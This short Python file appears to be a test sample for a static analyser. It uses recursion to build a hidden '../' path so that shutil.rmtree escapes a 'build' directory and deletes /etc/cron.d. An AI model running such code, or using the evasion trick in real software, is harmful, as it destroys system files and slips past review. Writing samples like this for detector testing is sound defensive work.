# technique: recursion builds '../' * n (unknown to the analysis) under a relative 'build' dir -> shutil.rmtree('build/../../../../../../../../etc/cron.d') (delete outside)
import os
import shutil

def up(n):
    return '' if n == 0 else '../' + up(n - 1)

shutil.rmtree(os.path.join('build', up(8) + 'etc/cron.d'), ignore_errors=True)
